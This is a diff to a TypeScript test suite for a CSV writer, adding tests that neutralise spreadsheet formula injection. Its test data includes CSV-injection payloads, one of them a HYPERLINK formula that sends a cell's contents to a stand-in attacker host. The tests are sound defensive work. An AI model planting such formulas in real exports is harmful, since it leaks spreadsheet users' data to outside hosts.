@@ -19,6 +19,53 @@ describe('csv', () => {
       });
     }
 
+    // OWASP CSV injection: a spreadsheet runs a cell that starts with one of these as a formula.
+    const hostile: [string, string][] = [
+      ['=1+1', `"'=1+1"`],
+      ['=HYPERLINK("http://evil.example/?x="&A1,"open")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`],
+      ['+cmd', `"'+cmd"`],
+      ['-2+3', `"'-2+3"`],
+      ['-3', `"'-3"`],
+      ['@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
+      ['\t=1+1', `"'\t=1+1"`],
+      ['\r=1+1', `"'\r=1+1"`],
+      ['=', `"'="`],
+    ];
+    for (const [value, written] of hostile) {
+      it(`neutralises the text cell ${JSON.stringify(value)} as ${JSON.stringify(written)}`, () => {
+        expect(csvField(value)).toBe(written);
+      });
+    }
+
+    const harmless: [string, string][] = [
+      ['a=b', 'a=b'],
+      [' =1+1', ' =1+1'],
+      ['ICU +1', 'ICU +1'],
+      ['2026-03-08', '2026-03-08'],
+      ["'quoted already", "'quoted already"],
+    ];
+    for (const [value, written] of harmless) {
+      it(`leaves ${JSON.stringify(value)}, which no spreadsheet runs, as ${JSON.stringify(written)}`, () => {
+        expect(csvField(value)).toBe(written);
+      });
+    }
+
+    const numbers: [number, string][] = [
+      [-3, '-3'],
+      [0, '0'],
+      [6.5, '6.5'],
+      [-0.5, '-0.5'],
+    ];
+    for (const [value, written] of numbers) {
+      it(`writes the number ${value}, which Tend wrote, as ${written}`, () => {
+        expect(csvField(value)).toBe(written);
+      });
+    }
+
+    it('neutralises text cells and keeps numbers in the same row', () => {
+      expect(toCsv([[-3, '-3', '+cmd', 4]])).toBe(`-3,"'-3","'+cmd",4\r\n`);
+    });
+
     it('ends every record, the last included, with CRLF', () => {
       expect(toCsv([['day', 'note'], ['2026-03-08', 'ok, fine']])).toBe('day,note\r\n2026-03-08,"ok, fine"\r\n');
       expect(toCsv([])).toBe('');
@@ -30,10 +77,14 @@ describe('csv', () => {
       const rows = [
         ['id', 'text', 'empty', 'unicode'],
         ['1', 'He said "stop", then left.\r\nNext line\nand a bare LF', '', 'Ñandú — 🫶 — مرحبا'],
-        ['2', ',,,', '""', '\r'],
+        ['2', ',,,', '""', 'x\r'],
         ['3', ' leading and trailing ', 'a"b"c', 'x'.repeat(100_000)],
       ];
       expect(parseCsv(toCsv(rows))).toEqual({ ok: true, rows });
+    });
+
+    it('reads a neutralised cell back with its leading quote, as a spreadsheet shows it', () => {
+      expect(parseCsv(toCsv([['=1+1', '\r']]))).toEqual({ ok: true, rows: [["'=1+1", "'\r"]] });
     });
   });
 
